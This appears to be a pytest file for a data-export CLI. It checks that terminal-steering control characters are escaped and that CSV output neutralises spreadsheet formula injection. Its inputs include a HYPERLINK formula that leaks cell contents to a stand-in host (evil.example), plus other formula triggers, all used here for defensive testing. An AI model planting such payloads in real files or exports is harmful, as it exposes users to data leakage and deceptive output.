"""What an event, a name or an answer can do to the terminal that shows it: nothing."""

import csv
import io
import json
import logging
import unicodedata

import pytest
from home import DAY, ExportHome
from rows import custom_event

from statsig_export.terminal_text import EscapingFormatter, escaped

STEERING = "a\x1b[2J\x9b31m\x85b\u202ec\u2066\u2028d\u2029\u200fe\ufeff\u00adf"
DAYS = ["--from", DAY, "--to", "2026-11-21"]


def without_ink(text: str) -> set[str]:
    """What a terminal would act on; not the line ends."""
    acts = {character for character in text if unicodedata.category(character)[0] == "C" or character in "\u2028\u2029"}
    return acts - {"\n"}


@pytest.fixture
def told(home: ExportHome) -> ExportHome:
    """Names, keys and a failed row that would steer a terminal, exported and halted."""
    home.add([custom_event(1, STEERING, time_uuid=f"id-{STEERING}"), custom_event(2, None, time_uuid=STEERING)])
    home.set("filter", custom_events={"events": {STEERING: True, f"other{STEERING}": False}})
    home.write()
    home.export()
    assert home.verb("status").exit_code == 1
    return home


@pytest.mark.fault("F263")
@pytest.mark.parametrize(
    "words",
    [
        ["events", *DAYS, "--all"],
        ["plan", *DAYS, "--failed"],
        ["status", "--failed"],
        ["trace", f"id-{STEERING}", "--event"],
        ["trace", f"no-{STEERING}"],
        ["status", "--nosuch"],
        ["plan", "--from", STEERING, "--to", DAY],
        ["ship"],
        ["verify"],
    ],
    ids=lambda words: ascii(" ".join(words))[:40],
)
@pytest.mark.parametrize("as_json", [[], ["--json"]], ids=["people", "json"])
def test_nothing_that_steers_a_terminal_reaches_one(told: ExportHome, words: list[str], as_json: list[str]):
    result = told.verb(*words, *as_json)

    assert without_ink(result.stdout) == set()
    assert without_ink(result.stderr) == set()
    if as_json:
        assert isinstance(json.loads(result.stdout), dict)


@pytest.mark.fault("F263")
def test_the_json_object_says_the_same_with_its_escapes(told: ExportHome):
    traced = json.loads(told.verb("trace", f"id-{STEERING}", "--json").stdout)

    assert traced["time_uuid"] == f"id-{STEERING}"


@pytest.mark.fault("F263")
def test_a_configuration_that_would_steer_the_terminal_is_one_line_that_does_not(told: ExportHome):
    told.config_path.write_text(f'["web{STEERING.encode("unicode_escape").decode()}"]\n'.replace("\\x", "\\u00"))
    result = told.verb("status")

    assert result.exit_code == 2
    assert without_ink(result.output) == set()
    assert len(result.output.splitlines()) == 1


@pytest.mark.fault("F263")
def test_a_log_record_is_escaped_and_keeps_its_lines():
    record = logging.makeLogRecord({"msg": f"one\n{STEERING}", "levelname": "INFO", "name": "x"})

    assert without_ink(EscapingFormatter(logging.BASIC_FORMAT).format(record)) == set()
    assert len(EscapingFormatter().format(record).splitlines()) == 2


@pytest.mark.fault("F263")
def test_text_of_any_script_stays_as_it_is():
    assert escaped("caf\u00e9 \u30c7\u30e2 \u0639 \U0001f600 ~") == "caf\u00e9 \u30c7\u30e2 \u0639 \U0001f600 ~"
    assert escaped("\ud800") == "\\ud800"


@pytest.mark.fault("F358")
@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/"&A1)', "+1+1", "-2+3", "@SUM(1)", "\uff1d1"])
def test_a_name_that_a_spreadsheet_would_compute_is_a_text_in_csv(home: ExportHome, name: str):
    home.add([custom_event(1, name)])
    home.write()

    lines = csv.DictReader(io.StringIO(home.verb("events", *DAYS, "--format", "csv").stdout))
    listed = json.loads(home.verb("events", *DAYS, "--json").stdout)

    assert f"'{name}" in [line["event"] for line in lines]
    assert name in [event["event"] for event in listed["custom_events"]]
